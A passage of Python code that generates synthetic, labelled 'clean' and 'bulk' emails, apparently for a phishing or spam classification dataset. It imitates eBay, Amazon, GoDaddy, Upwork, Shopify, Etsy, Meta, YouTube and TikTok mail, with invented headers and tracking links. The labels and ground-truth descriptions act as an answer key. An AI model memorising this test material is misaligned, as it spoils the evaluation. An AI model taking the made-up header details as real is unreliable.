                  footer=["eBay sent this message to Tom Ashworth (retrorelay_uk).",
                          "Copyright © 1995-2025 eBay Inc. All Rights Reserved. eBay (UK) Limited, 1 More London Place, London, SE1 2AF"],
                  pixel="https://rover.ebay.com/roveropen/0/0/11000?euid=" + hexs(stem + "euid", 32))
    body = alt(to_plain(markup), markup, stem, "java")
    build(stem, "clean",
          "Genuine eBay UK 'You made the sale' notification (ebay@ebay.com, eBay MTAs) with buyer postage address and a link to Seller Hub "
          "on ebay.co.uk.",
          RETRO, s, Auth(policy="reject"), frm=addr("eBay", "ebay@ebay.com"),
          subject="You made the sale for Sony Walkman WM-EX194 Cassette Player - Working, Boxed", sent=sent, body=body,
          to="tom@retrorelay.co.uk", lang="en-GB")


def l12_amazon_listing() -> None:
    stem = f"{PREFIX}-legit-amazon-listing-deactivated"
    sent = T("2025-05-14 08:22:50 +0000")
    s = ses("amazon.com", sent, stem, region="us-east-1", mailfrom=f"20250514082250{digits(stem, 6)}.{hexs(stem + 'b', 8)}@bounces.amazon.com",
            selector="rjq6tqnptpkn3zz3bkl6xg3hntfo6ghz")
    markup = card(brand="amazon seller central", color="#232f3e", bg="#eaeded", font="Arial, sans-serif",
                  heading="Potential pricing error: listing deactivated",
                  paras=["Hello,",
                         "We have deactivated one of your listings because the price may be incorrect. The price you set is significantly "
                         "lower than the recent price for this item.",
                         "SKU: BPG-TENT-UL2-GRN<br>ASIN: B0C8K2XWQ7<br>Your price: $19.99<br>Recent price: $189.99",
                         "If the price is correct, you can confirm it on the Manage Pricing page and the listing will be reactivated. "
                         "To update the price, go to Manage Inventory."],
                  button=("Go to Manage Pricing", "https://sellercentral.amazon.com/inventory?viewId=PRICING_ERROR"),
                  footer=["Thank you for selling on Amazon,", "Amazon Services",
                          "Please do not reply to this email. To contact us, use Seller Central Help."])
    body = alt(to_plain(markup), markup, stem, "java")
    build(stem, "clean",
          "Genuine Amazon Seller Central notice (amazon.com via SES) that a tent listing was deactivated for a potential pricing error, "
          "linking to sellercentral.amazon.com.",
          BRIGHT, s, Auth(policy="quarantine"), frm=addr("Amazon Services", "seller-notification@amazon.com"),
          subject="Action required: listing deactivated due to potential pricing error", sent=sent, body=body, to="ops@brightpeakgear.com")


def l13_godaddy_fr() -> None:
    stem = f"{PREFIX}-legit-godaddy-renouvellement-fr"
    sent = T("2025-08-05 05:14:28 -0700")
    n = rint(stem, 10, 80)
    trace = [dkim_header("godaddy.com", "gdmail", stem + "gd", sent, "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type:List-Unsubscribe"),
             f"Received: from emailsender-{rint(stem + 'es', 1, 20)}.prod.phx3.gdg (emailsender-{rint(stem + 'es', 1, 20)}.prod.phx3.gdg [10.{rint(stem + 'a', 10, 200)}.{rint(stem + 'b', 1, 250)}.{rint(stem + 'c', 1, 250)}])\n"
             f"\tby p3plsmtpout{rint(stem + 'o', 1, 9):03d}.prod.phx3.secureserver.net with ESMTP id {alnum(stem + 'gdid', 16)}; {fmt(sent)}"]
    s = custom(f"bounce-{hexs(stem + 'bo', 16)}@e.godaddy.com", f"p3plsmtpout{rint(stem + 'o', 1, 9):03d}.prod.phx3.secureserver.net",
               f"68.178.252.{n}", trace, [("godaddy.com", "gdmail")], f"<{uuid(stem + 'gm')}@godaddy.com>",
               after=["X-GD-Template: renewal_autorenew_upcoming", "X-Priority: 3"])
    markup = card(brand="GoDaddy", color="#111111", bg="#f5f7f8", lang="fr", font="'gdsherpa', Helvetica, Arial, sans-serif",
                  heading="Votre produit sera renouvelé automatiquement",
                  paras=["Bonjour Camille,",
                         "Ceci est un rappel : les produits ci-dessous seront renouvelés automatiquement le <b>4 septembre 2025</b> "
                         "avec le moyen de paiement enregistré (Visa se terminant par 6012).",
                         "Domaine .fr – ateliercamille.fr – 1 an – 15,99 € HT<br>Microsoft 365 Email Essentials – 1 utilisateur – 1 an – 59,88 € HT",
                         "Aucune action n'est nécessaire. Pour modifier vos préférences de renouvellement, rendez-vous dans votre compte."],
                  button=("Gérer mes renouvellements", "https://account.godaddy.com/subscriptions?plid=1&ci=72401"),
                  footer=["N° client : 418 227 903", "GoDaddy Operating Company, LLC. 2155 E. GoDaddy Way, Tempe, AZ 85284, États-Unis.",
                          "Copyright © 1999-2025 GoDaddy Operating Company, LLC. Tous droits réservés."])
    body = alt(to_plain(markup), markup, stem, "java")
    build(stem, "clean",
          "Genuine GoDaddy French auto-renewal reminder (godaddy.com) for a shop's .fr domain and Microsoft 365 mailbox; no action "
          "requested, links to account.godaddy.com.",
          CAM, s, Auth(policy="reject"), frm=addr("GoDaddy", "renouvellements@godaddy.com"),
          subject="Rappel : renouvellement automatique de ateliercamille.fr le 4 septembre", sent=sent, body=body,
          to="camille@ateliercamille.fr", lang="fr-FR")


def l14_upwork_message() -> None:
    stem = f"{PREFIX}-legit-upwork-new-message"
    sent = T("2025-04-02 14:30:05 +0000")
    s = sendgrid("upwork.com", sent, stem, em="email.upwork.com", uid="6219874")
    markup = card(brand="Upwork", color="#14a800", bg="#f2f7f2", heading="You have unread messages",
                  paras=["Hi Marco,",
                         "You have 1 unread message about the job <b>Logo refresh for specialty coffee roaster</b>.",
                         "<b>Helen Park</b>: &ldquo;Thanks Marco, the second concept is the one. Could you prepare the packaging mockups "
                         "for the 250g and 1kg bags? I'll add a milestone for it today.&rdquo;"],
                  button=("View message", "https://www.upwork.com/ab/messages/rooms/room_8f2c0e4b7d1a43e6a9b5c3d2e1f0a987?frkscc=" + alnum(stem + "fk", 12)),
                  footer=["To keep your payments protected, keep communication and payments on Upwork.",
                          "Upwork Global Inc., 655 Montgomery Street, Suite 490, DPT 17022, San Francisco, CA 94111"])
    body = alt(to_plain(markup), markup, stem, "sg")
    build(stem, "clean",
          "Genuine Upwork unread-message notification (donotreply@upwork.com via SendGrid) quoting a real client on an active contract, "
          "linking to upwork.com messages.",
          BELL, s, Auth(policy="reject"), frm=addr("Upwork Notification", "donotreply@upwork.com"),
          subject="You have unread messages about the job Logo refresh for specialty coffee roaster", sent=sent, body=body,
          to="marco@bellinistudio.it")


def l15_sponsorship_agency() -> None:
    stem = f"{PREFIX}-legit-sponsorship-agency-offer"
    sent = T("2025-04-08 11:26:44 -0400")
    s = gmail("jordan@brightlane.agency", sent, stem, PRIYA_C, domain_sig="brightlane.agency")
    brief = files.pdf(["BRIGHTLANE  |  Creator Campaign Brief", "", "Brand: Crafthaus (craft supplies retailer)",
                       "Campaign: Spring Makers 2025", "Creator: Priya Makes (YouTube)", "",
                       "Deliverables: 1 x 60-90s integrated segment in a long-form video, 1 x YouTube Short",
                       "Timing: live between May 5 and May 23, 2025", "Usage: organic only, 30 days paid whitelisting optional (+15%)",
                       "Fee: USD 4,200 (net 30 after publication)", "",
                       "Key messages: Crafthaus resin and pigment kits, 15% code PRIYA15",
                       "Approval: script outline and rough cut reviewed by Brightlane", "",
                       "Contract: Brightlane standard creator agreement via DocuSign after confirmation."],
                      title="Crafthaus x Priya Makes - Campaign Brief")
    plain = ("Hi Priya,\n\n"
             "Hope you're well! I'm a talent partnerships lead at Brightlane - we worked together on the Mod Podge integration "
             "last October.\n\n"
             "Our client Crafthaus is running a spring campaign and your resin videos are at the top of their list. I've attached "
             "the brief with deliverables, timing and the proposed fee (USD 4,200 for a 60-90s integration plus one Short).\n\n"
             "If it sounds interesting, could you send your current media kit and let me know if the May 5-23 window works? Once "
             "you confirm, I'll send our standard creator agreement through DocuSign and loop in the brand.\n\n"
             "Happy to jump on a call this week as well.\n\n"
             "Best,\nJordan Ellis\nTalent Partnerships Lead | Brightlane\nbrightlane.agency\n")
    markup = simple_html([esc(p).replace("\n", "<br>") for p in plain.strip().split("\n\n")])
    body = Multi("mixed", bnd("gmail", stem + "mx"), [
        alt(plain, markup, stem, "gmail"),
        attachment("application/pdf", "Crafthaus_x_PriyaMakes_Campaign_Brief.pdf", brief),
    ])
    build(stem, "clean",
          "Real sponsorship offer from a creator agency's Google Workspace (past collaborator) with an ordinary PDF campaign brief; "
          "asks for a media kit and uses DocuSign later, no archive, password or download.",
          PRIYA_C, s, Auth(policy="quarantine"), frm=addr("Jordan Ellis", "jordan@brightlane.agency"),
          subject="Crafthaus x Priya Makes - Spring campaign brief", sent=sent, body=body, order="gmail",
          to="collabs@priyamakes.com", cc=addr("Priya Raman", "priya@priyamakes.com"))


def l16_customer_complaint() -> None:
    stem = f"{PREFIX}-legit-customer-complaint-photos"
    sent = T("2025-11-03 18:47:21 -0600")
    n = rint(stem, 10, 40)
    trace = [dkim_header("icloud.com", "1a1hai", stem + "ic", sent, "Content-Type:Mime-Version:Subject:From:Date:Message-Id:To"),
             f"Received: from smtpclient.apple (st43p00im-ztdg100{rint(stem + 'z', 10, 99)}101.me.com [17.58.63.{n + 170}])\n\tby st43p00im-ztdg100{rint(stem + 'z', 10, 99)}101.me.com (Postfix) with ESMTPSA id 4{alnum(stem + 'q', 11)};\n\t{fmt(sent, 0)}"]
    s = custom("olivia.brandt@icloud.com", f"st43p00im-ztdg100{rint(stem + 'z', 10, 99)}101.me.com", f"17.58.63.{n + 170}", trace,
               [("icloud.com", "1a1hai")], f"<{uuid(stem + 'am', True)}@icloud.com>",
               after=["X-Mailer: iPhone Mail (22B91)", f"X-Proofpoint-ORIG-GUID: {alnum(stem + 'pp', 32)}"])
    plain = ("Hi Hannah,\n\n"
             "I just got my order (#1923) and unfortunately one of the Birch & Amber jars arrived with a crack down the side - "
             "photos attached. The other two are perfect and smell amazing!\n\n"
             "The box looked fine so I think it might have happened in the warehouse. Would it be possible to get a replacement "
             "for the cracked one? Happy to send it back if you need.\n\n"
             "Thanks!\nOlivia\n\nSent from my iPhone\n")
    markup = ("<html><head><meta http-equiv=\"content-type\" content=\"text/html; charset=utf-8\"></head><body dir=\"auto\">"
              + "".join(f"<div dir=\"ltr\">{esc(p).replace(chr(10), '<br>')}</div><div dir=\"ltr\"><br></div>" for p in plain.strip().split("\n\n")[:-1])
              + "<div dir=\"ltr\"><img src=\"cid:IMG_3391\"><br><img src=\"cid:IMG_3392\"></div><div dir=\"ltr\">Sent from my iPhone</div></body></html>\n")
    body = Multi("alternative", bnd("apple", stem), [
        text(plain, "plain", "quoted-printable", "utf-8"),
        Multi("related", bnd("apple", stem + "rel"), [
            text(markup, "html", "quoted-printable", "utf-8"),
            Leaf("image/jpeg", files.photo_jpeg(1923, (800, 600)), "base64", '; name="IMG_3391.jpeg"; x-apple-part-url="IMG_3391"',
                 'inline; filename="IMG_3391.jpeg"', ["Content-ID: <IMG_3391>"]),
            Leaf("image/jpeg", files.photo_jpeg(1924, (800, 600)), "base64", '; name="IMG_3392.jpeg"; x-apple-part-url="IMG_3392"',
                 'inline; filename="IMG_3392.jpeg"', ["Content-ID: <IMG_3392>"]),
        ], params=' type="text/html";'),
    ])
    build(stem, "clean",
          "Real customer complaint from an iCloud address sent with iPhone Mail: one candle jar from order #1923 arrived cracked, two JPEG "
          "photos attached inline, polite request for a replacement.",
          MM, s, Auth(policy="quarantine"), frm=addr("Olivia Brandt", "olivia.brandt@icloud.com"),
          subject="Order #1923 - one jar cracked", sent=sent, body=body, to="hannah@mapleandmoss.co")


def l17_wholesale_inquiry() -> None:
    stem = f"{PREFIX}-legit-wholesale-buyer-inquiry"
    sent = T("2025-03-20 10:14:09 -0400")
    s = outlook("claire@thepotterslane.com", sent, stem, consumer=False, region="NAM", dkim_d="thepotterslane.com", client="outlook")
    paras = ["Hi Nora,",
             "I own The Potter's Lane, a small home-goods boutique in Burlington, VT. A customer showed me one of your speckled "
             "mugs and I've been admiring your shop on Etsy ever since.",
             "Do you offer wholesale? We'd be interested in an opening order of around 24 mugs and 6 serving bowls for our "
             "spring refresh, ideally delivered by late April. Could you send your wholesale price list, minimums and lead times?",
             "Looking forward to hearing from you!"]
    sig = ("Claire Donnelly<br>Owner, The Potter's Lane<br>112 Church Street, Burlington, VT 05401<br>(802) 555-0193 | "
           "<a href=\"https://www.thepotterslane.com\">thepotterslane.com</a>")
    markup = outlook_html(paras, signature=sig)
    body = alt(to_plain(markup), markup, stem, "outlook")
    build(stem, "clean",
          "Real wholesale inquiry from a boutique owner's Microsoft 365 mailbox asking an Etsy ceramicist for price list, minimums and lead "
          "times; no links besides her own website, no attachment.",
          WILD, s, Auth(policy="none"), frm=addr("Claire Donnelly", "claire@thepotterslane.com"),
          subject="Wholesale inquiry - The Potter's Lane (Burlington, VT)", sent=sent, body=body, to="nora@wildfernceramics.com")


# ---------------------------------------------------------------- bulk / newsletters


def l18_shopify_newsletter_de() -> None:
    stem = f"{PREFIX}-legit-shopify-editions-newsletter-de"
    sent = T("2025-01-15 16:00:12 +0000")
    s = sendgrid("shopify.com", sent, stem, em="em.news.shopify.com", uid="4471862")

    def lk(tag: str) -> str:
        return f"https://links.shopify.com/ls/click?upn=u001.{urlsafe(stem + tag, 150)}"

    markup = card(brand="shopify", color="#000000", bg="#f4f4f4", lang="de",
                  font="-apple-system, BlinkMacSystemFont, 'Segoe UI', Roboto, Helvetica, Arial, sans-serif",
                  heading="Shopify Editions Winter '25: über 150 Neuerungen",
                  preheader="Horizon-Themes, Shopify Magic und ein neuer Checkout – alles auf einen Blick",
                  paras=["Hallo Jonas,",
                         "mit der Winter '25 Edition bringen wir über 150 Produkt-Updates für Händler:innen wie dich. Die Highlights:",
                         f"&bull; <a href=\"{lk('a')}\">Neue Themes mit KI-gestützten Blöcken</a><br>&bull; <a href=\"{lk('b')}\">Schnellerer Checkout mit Shop Pay</a>"
                         f"<br>&bull; <a href=\"{lk('c')}\">B2B-Funktionen jetzt in allen Tarifen</a><br>&bull; <a href=\"{lk('d')}\">Neue Berichte in Shopify Analytics</a>",
                         "Alle Updates sind ab heute in deinem Shopify-Adminbereich verfügbar."],
                  button=("Alle Neuerungen ansehen", lk("e")),
                  footer=["Du erhältst diese E-Mail, weil du ein Shopify-Konto hast. "
                          f"<a href=\"{lk('unsub')}\">Abmelden</a> · <a href=\"{lk('prefs')}\">E-Mail-Einstellungen</a>",
                          "Shopify International Limited, 2nd Floor Victoria Buildings, 1-2 Haddington Road, Dublin 4, D04 XN32, Irland"],
                  pixel=f"https://links.shopify.com/wf/open?upn=u001.{urlsafe(stem + 'px', 120)}")
    body = alt(to_plain(markup), markup, stem, "sg")
    build(stem, "bulk",
          "Genuine German Shopify Editions Winter '25 newsletter to a merchant, sent via SendGrid with links.shopify.com click-tracking, "
          "open pixel and one-click unsubscribe.",
          HANSEN, s, Auth(policy="reject"), frm=addr("Shopify", "hello@shopify.com"),
          subject="Shopify Editions Winter '25: über 150 Neuerungen für deinen Shop", sent=sent, body=body,
          to="info@roesterei-hansen.de", lang="de-DE",
          extra=[f"List-Unsubscribe: <{lk('lu')}>, <mailto:unsubscribe-{hexs(stem + 'u', 16)}@em.news.shopify.com>",
                 "List-Unsubscribe-Post: List-Unsubscribe=One-Click", "Precedence: bulk"])


def l19_etsy_newsletter() -> None:
    stem = f"{PREFIX}-legit-etsy-seller-newsletter"
    sent = T("2024-10-10 13:30:44 +0000")
    s = sendgrid("mail.etsy.com", sent, stem, em="em.mail.etsy.com", uid="1102493")

    def lk(tag: str) -> str:
        return f"https://ablink.mail.etsy.com/ls/click?upn=u001.{urlsafe(stem + tag, 160)}"

    markup = card(brand="Etsy", color="#f1641e", bg="#faf7f2", font="Graphik Webfont, -apple-system, Helvetica Neue, Arial, sans-serif",
                  heading="Your holiday seller checklist is here",
                  preheader="Shipping cutoffs, gift-ready listings and sales events - get ready for your busiest season",
                  paras=["Hi Megan,",
                         "The holidays are the busiest time of year on Etsy. Here's how to get your shop ready:",
                         f"1. <a href=\"{lk('a')}\">Set your shipping cutoff dates</a> so buyers know when to order.<br>"
                         f"2. <a href=\"{lk('b')}\">Mark listings as gift-ready</a> to appear in gift guides.<br>"
                         f"3. <a href=\"{lk('c')}\">Schedule a sale for Cyber Week</a> from your Shop Manager.",
                         f"Read the full guide in the <a href=\"{lk('d')}\">Etsy Seller Handbook</a>."],
                  button=("Open Shop Manager", lk("e")),
                  footer=[f"You're receiving this email because you're subscribed to seller updates. <a href=\"{lk('u')}\">Unsubscribe</a>",
                          "Etsy, Inc., 117 Adams Street, Brooklyn, NY 11201"],
                  pixel=f"https://ablink.mail.etsy.com/wf/open?upn=u001.{urlsafe(stem + 'px', 120)}")
    body = alt(to_plain(markup), markup, stem, "sg")
    build(stem, "bulk",
          "Genuine Etsy seller newsletter (holiday checklist) from mail.etsy.com via SendGrid with ablink.mail.etsy.com click-tracking and "
          "List-Unsubscribe.",
          FOX, s, Auth(policy="reject", bcl=5), frm=addr("Etsy", "email@mail.etsy.com"),
          subject="Your holiday seller checklist is here", sent=sent, body=body, to="hello@littlefoxprints.com",
          extra=[f"List-Unsubscribe: <{lk('lu')}>", "List-Unsubscribe-Post: List-Unsubscribe=One-Click"])


def l20_meta_business_newsletter() -> None:
    stem = f"{PREFIX}-legit-meta-business-newsletter"
    sent = T("2025-04-22 15:02:29 -0700")
    s = _facebook_sender(stem, sent, "marketing_newsletter", d="business.facebook.com", mf="noreply@business.facebook.com")
    mid = hexs(stem + "mid", 13)

    def lk(path: str) -> str:
        return f"https://www.facebook.com/business/{path}?utm_source=email&utm_medium=newsletter&utm_campaign=smb_apr25&mid={mid}"

    markup = card(brand="Meta for Business", color="#0866ff", bg="#f0f2f5", font="Optimistic Display, Helvetica, Arial, sans-serif",
                  heading="3 ways salons are filling appointments with Reels",
                  preheader="Plus: new booking buttons for Pages and a free Reels course",
                  paras=["Hi Studio Lumen Salon,",
                         "Local businesses that post Reels at least twice a week see more profile visits. Here's what's working for beauty and wellness pros:",
                         f"&bull; Before-and-after transformations under 15 seconds<br>&bull; Answering client FAQs on camera<br>"
                         f"&bull; A clear call-to-action with the new <a href=\"{lk('help/book-now')}\">Book now button</a>",
                         f"Want to learn more? Take the free <a href=\"{lk('learn/courses/reels')}\">Meta Blueprint course on Reels</a>."],
                  button=("Get started", lk("instagram/reels")),
                  footer=[f"This message was sent to bookings@studiolumensalon.com. <a href=\"https://www.facebook.com/settings?tab=notifications&mid={mid}\">Unsubscribe</a>",
                          "Meta Platforms, Inc., Attention: Community Support, 1 Meta Way, Menlo Park, CA 94025"],
                  pixel=f"https://www.facebook.com/email_open_log_pic.php?mid={mid}G5af{hexs(stem + 'm3', 10)}")
    body = alt(to_plain(markup), markup, stem, "fb")
    build(stem, "bulk",
          "Genuine Meta for Business marketing newsletter for small businesses (Reels tips for salons) from business.facebook.com with "
          "utm-tagged facebook.com links and an unsubscribe header.",
          LUMEN, s, Auth(policy="reject", bcl=6), frm=addr("Meta for Business", "noreply@business.facebook.com"),
          subject="3 ways salons are filling appointments with Reels", sent=sent, body=body, to="bookings@studiolumensalon.com",
          extra=[f"List-Unsubscribe: <https://www.facebook.com/o.php?k=AS{alnum(stem + 'k', 20)}&mid={mid}>",
                 "List-Unsubscribe-Post: List-Unsubscribe=One-Click"])


def l21_youtube_creators() -> None:
    stem = f"{PREFIX}-legit-youtube-creators-newsletter"
    sent = T("2025-10-01 17:05:33 -0700")
    s = google_notif("-youtube-creators", "scoutcamp.bounces.google.com", "youtube.com", sent, stem, SAM)

    def lk(tag: str) -> str:
        return f"https://notifications.googleapis.com/email/redirect?t={urlsafe(stem + tag, 120)}&r={digits(stem + tag + 'r', 20)}&s=24"

    markup = card(brand="YouTube Creators", color="#cc0000", bg="#ffffff", font="Roboto, Arial, sans-serif",
                  heading="New in Studio: test up to 3 titles on a video",
                  preheader="Title A/B testing, an updated Inspiration tab and more",
                  paras=["Hi GearDrop Reviews,",
                         "Here's what's new for creators this month:",
                         f"&bull; <a href=\"{lk('a')}\">Title &amp; thumbnail testing</a>: compare up to 3 titles and thumbnails; YouTube picks the one with the most watch time.<br>"
                         f"&bull; <a href=\"{lk('b')}\">Inspiration tab</a>: topic ideas based on what your audience watches.<br>"
                         f"&bull; <a href=\"{lk('c')}\">Shopping affiliate program</a> now open to more channels.",
                         f"Catch the full rundown on the <a href=\"{lk('d')}\">Creator Insider channel</a>."],
                  button=("Open YouTube Studio", lk("e")),
                  footer=[f"You received this email because you subscribed to YouTube Creators updates. <a href=\"{lk('u')}\">Unsubscribe</a>",
                          "© 2025 Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA"])
    body = alt(to_plain(markup), markup, stem, "gmail")
    build(stem, "bulk",
          "Genuine YouTube Creators monthly newsletter (youtube.com via Google) with notifications.googleapis.com redirect links and "
          "List-Unsubscribe.",
          SAM, s, Auth(policy="reject"), frm=addr("YouTube Creators", "no-reply@youtube.com"),
          subject="New in Studio: test up to 3 titles on a video", sent=sent, body=body, to="sam@geardropreviews.com", order="gmail",
          extra=[f"List-Unsubscribe: <{lk('lu')}>", "List-Unsubscribe-Post: List-Unsubscribe=One-Click",
                 f"Feedback-ID: {rint(stem, 100000, 999999)}:youtube-creators:{hexs(stem + 'fb', 8)}:youtube"])


def l22_tiktok_business_newsletter() -> None:
    stem = f"{PREFIX}-legit-tiktok-business-newsletter"
    sent = T("2024-11-07 18:00:41 +0000")
    n = rint(stem, 1, 60)
    mkto = "284-ZLT-612"
    trace = [dkim_header("mktdns.com", "m1", stem + "mk1", sent, "Date:From:To:Subject:MIME-Version:Content-Type:Message-ID:List-Unsubscribe", bits=1024),
             dkim_header("tiktok.com", "m1", stem + "mk2", sent, "Date:From:To:Subject:MIME-Version:Content-Type:Message-ID:List-Unsubscribe"),
             f"Received: from [10.0.{rint(stem + 'a', 1, 250)}.{rint(stem + 'b', 1, 250)}] ([10.0.{rint(stem + 'a', 1, 250)}.{rint(stem + 'b', 1, 250)}:{rint(stem + 'p', 30000, 60000)}] helo=abmas02.marketo.org)\n"
             f"\tby sjmas{rint(stem + 's', 1, 3):02d}.marketo.org (envelope-from <{mkto}.{digits(stem + 'env', 6)}.{digits(stem + 'env2', 7)}@mail.tiktok.com>)\n"
             f"\t(ecelerity 4.2.38.62370 r(:)) with ESMTP\n\tid {hexs(stem + 'ec', 2).upper()}/{hexs(stem + 'ec2', 2).upper()}-{digits(stem + 'ec3', 5)}-{hexs(stem + 'ec4', 8).upper()}; {fmt(sent, -6)}"]
    s = custom(f"{mkto}.{digits(stem + 'env', 6)}.{digits(stem + 'env2', 7)}@mail.tiktok.com", f"mail{n}.sea{rint(stem + 'sea', 81, 91)}.mktomail.com",
               f"192.28.{rint(stem + 'c', 144, 159)}.{n}", trace, [("mktdns.com", "m1"), ("tiktok.com", "m1")],
               f"<{digits(stem + 'mid', 10)}.{digits(stem + 'mid2', 10)}.{epoch(sent)}{digits(stem, 3)}.JavaMail.root@sjmas{rint(stem + 's', 1, 3):02d}.marketo.org>",
               after=[f"X-MSYS-API: {{\"options\":{{\"open_tracking\":false,\"click_tracking\":false}}}}",
                      f"X-MarketoID: {mkto}:{digits(stem + 'mk', 6)}:{digits(stem + 'mk2', 8)}", "X-MktArchive: false",
                      f"X-Mailfrom: {mkto}.{digits(stem + 'env', 6)}.{digits(stem + 'env2', 7)}@mail.tiktok.com",
                      f"X-MktMailDKIM: true", "X-PVIQ: " + hexs(stem + "pviq", 24)])

    def lk(tag: str) -> str:
        return f"https://go.tiktokforbusiness.com/{alnum(stem + tag, 8)}?mkt_tok={urlsafe(stem + tag + 'tok', 110)}"

    markup = card(brand="TikTok for Business", color="#000000", bg="#f1f1f2", font="TikTokDisplay, Arial, sans-serif",
                  heading="Holiday playbook: turn For You into 'for sale'",
                  preheader="Creative tips, Smart+ campaigns and key dates for Black Friday through New Year",
                  paras=["Hi Hannah,",
                         "The holiday season is when TikTok shoppers discover new brands. Our 2024 Holiday Playbook covers:",
                         f"&bull; <a href=\"{lk('a')}\">Key dates and when to start spending</a><br>&bull; <a href=\"{lk('b')}\">Creative that works: 5 hooks for gifting content</a><br>"
                         f"&bull; <a href=\"{lk('c')}\">Smart+ campaigns for small budgets</a>",
                         "Plus: new advertisers get up to $6,000 in ad credit when they spend in their first 30 days. Terms apply."],
                  button=("Get the playbook", lk("d")),
                  footer=[f"TikTok for Business, 5800 Bristol Parkway, Culver City, CA 90230. <a href=\"{lk('u')}\">Unsubscribe</a> · "
                          f"<a href=\"https://www.tiktok.com/legal/page/us/privacy-policy/en\">Privacy Policy</a>"],
                  pixel=f"https://go.tiktokforbusiness.com/trk?t=1&mid={urlsafe(stem + 'pixel', 60)}")
    body = alt(to_plain(markup), markup, stem, "java")
    build(stem, "bulk",
          "Genuine TikTok for Business holiday-playbook newsletter sent through Marketo (mktomail.com, mail.tiktok.com envelope) with "
          "mkt_tok tracked links and an ad-credit offer.",
          MM, s, Auth(policy="reject"), frm=addr("TikTok for Business", "no-reply@mail.tiktok.com"),
          subject="Your holiday playbook: turn For You into 'for sale'", sent=sent, body=body, to="hannah@mapleandmoss.co",
          extra=[f"List-Unsubscribe: <mailto:{mkto}.{digits(stem + 'env', 6)}.unsub@mail.tiktok.com>, <{lk('lu')}>",
                 "List-Unsubscribe-Post: List-Unsubscribe=One-Click", "Precedence: bulk"])


def l23_gbp_performance() -> None:
    stem = f"{PREFIX}-legit-google-business-profile-performance"
    sent = T("2025-01-06 10:11:02 -0800")
    s = google_notif("-businessprofile-noreply", "gaia.bounces.google.com", "google.com", sent, stem, NOPAL)

    def lk(tag: str) -> str:
        return f"https://notifications.google.com/g/p/{urlsafe(stem + tag, 180)}"

    markup = card(brand="Google Business Profile", color="#1a73e8", bg="#ffffff", font="'Google Sans', Roboto, Arial, sans-serif",
                  heading="Your December performance",
                  paras=["Taqueria El Nopal · 1807 E Cesar Chavez St, Austin, TX",
                         "<b>2,914</b> people viewed your Business Profile (+18% vs. November)<br><b>412</b> searches showed your profile<br>"
                         "<b>187</b> calls · <b>624</b> direction requests · <b>95</b> website clicks",
                         "Top search term: <i>tacos near me</i>",
                         f"You have <b>6 new reviews</b>. <a href=\"{lk('rev')}\">Reply to reviews</a> to show customers you care."],
                  button=("See full performance", lk("perf")),
                  footer=[f"You've received this email because you manage this Business Profile. <a href=\"{lk('unsub')}\">Unsubscribe</a>",
                          "Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043"])
    body = alt(to_plain(markup), markup, stem, "gmail")
    build(stem, "bulk",
          "Genuine monthly Google Business Profile performance report to a restaurant (businessprofile-noreply@google.com) with "
          "notifications.google.com tracked links.",
          NOPAL, s, Auth(policy="reject"), frm=addr("Google Business Profile", "businessprofile-noreply@google.com"),
          subject="Your December performance report for Taqueria El Nopal", sent=sent, body=body, to="luis@elnopalatx.com", order="gmail",
          extra=[f"List-Unsubscribe: <{lk('lu')}>", "List-Unsubscribe-Post: List-Unsubscribe=One-Click"])


def l24_amazon_es_newsletter() -> None:
    stem = f"{PREFIX}-legit-amazon-vendedores-newsletter-es"
    sent = T("2025-03-05 09:30:18 +0000")
    s = ses("amazon.es", sent, stem, region="eu-west-1", mailfrom=f"20250305093018{digits(stem, 6)}.{hexs(stem + 'b', 8)}@bounces.amazon.es",
            selector="eaxkvsyelrnxjh4cicqyjjmtjpetuwjx")

    def lk(tag: str) -> str:
        return f"https://www.amazon.es/gp/r.html?C={alnum(stem + tag, 13).upper()}&K={alnum(stem + tag + 'k', 13).upper()}&M=urn:rtn:msg:{digits(stem + tag, 14)}&R={alnum(stem + tag + 'r', 12).upper()}&T=C&U=https%3A%2F%2Fsellercentral.amazon.es%2Fnews%3Fref_%3Dnl_{tag}&H={alnum(stem + tag + 'h', 28).upper()}"

    markup = card(brand="amazon seller central", color="#232f3e", bg="#eaeded", lang="es", font="Arial, sans-serif",
                  heading="Novedades para vendedores – marzo de 2025",
                  paras=["Hola, Casa Olivo:",
                         "Estas son las novedades más importantes para vender en Amazon.es este mes:",
                         f"&bull; <a href=\"{lk('a')}\">Nuevas tarifas de Logística de Amazon a partir del 1 de abril</a><br>"
                         f"&bull; <a href=\"{lk('b')}\">Prepara tus productos para la Fiesta de Ofertas de Primavera</a><br>"
                         f"&bull; <a href=\"{lk('c')}\">Cómo mejorar tu Salud de la cuenta</a>",
                         "Inicia sesión en Seller Central para consultar todos los detalles."],
                  button=("Ir a Seller Central", lk("d")),
                  footer=["Este mensaje se ha enviado desde una dirección de correo electrónico que no admite respuestas.",
                          f"<a href=\"{lk('u')}\">Cancelar suscripción</a> · Amazon EU S.à r.l., 38 avenue John F. Kennedy, L-1855 Luxemburgo"])
    body = alt(to_plain(markup), markup, stem, "java")
    build(stem, "bulk",
          "Genuine Spanish Amazon Seller Central monthly news for sellers (amazon.es via SES) with amazon.es/gp/r.html tracked redirects "
          "to sellercentral.amazon.es.",
          OLIVO, s, Auth(policy="quarantine", bcl=4), frm=addr("Amazon Seller Central", "seller-news@amazon.es"),
          subject="Novedades para vendedores – marzo de 2025", sent=sent, body=body, to="ventas@casaolivo.es", lang="es-ES",
          extra=[f"List-Unsubscribe: <{lk('lu')}>", "List-Unsubscribe-Post: List-Unsubscribe=One-Click", "Bounces-to: " + s.mailfrom])


def l25_fiverr_newsletter_es() -> None:
    stem = f"{PREFIX}-legit-fiverr-newsletter-es"
    sent = T("2025-09-16 14:00:07 +0000")
    n = rint(stem, 10, 90)
    jobid = f"{rint(stem + 'j', 100000, 999999)}_{rint(stem + 'j2', 1000000, 9999999)}"
    trace = [dkim_header("e.fiverr.com", "200608", stem + "sf1", sent, "From:Subject:Date:To:MIME-Version:Content-Type:Message-ID:List-Unsubscribe"),
             f"Received: by mta{rint(stem + 'm', 1, 9)}.e.fiverr.com id {hexs(stem + 'mid', 12)} for <{{rcpt_addr}}>; {format_datetime(sent.astimezone(timezone(timedelta(hours=-6))))} (envelope-from <bounce-{jobid}-{digits(stem + 'b', 9)}@bounce.e.fiverr.com>)"]
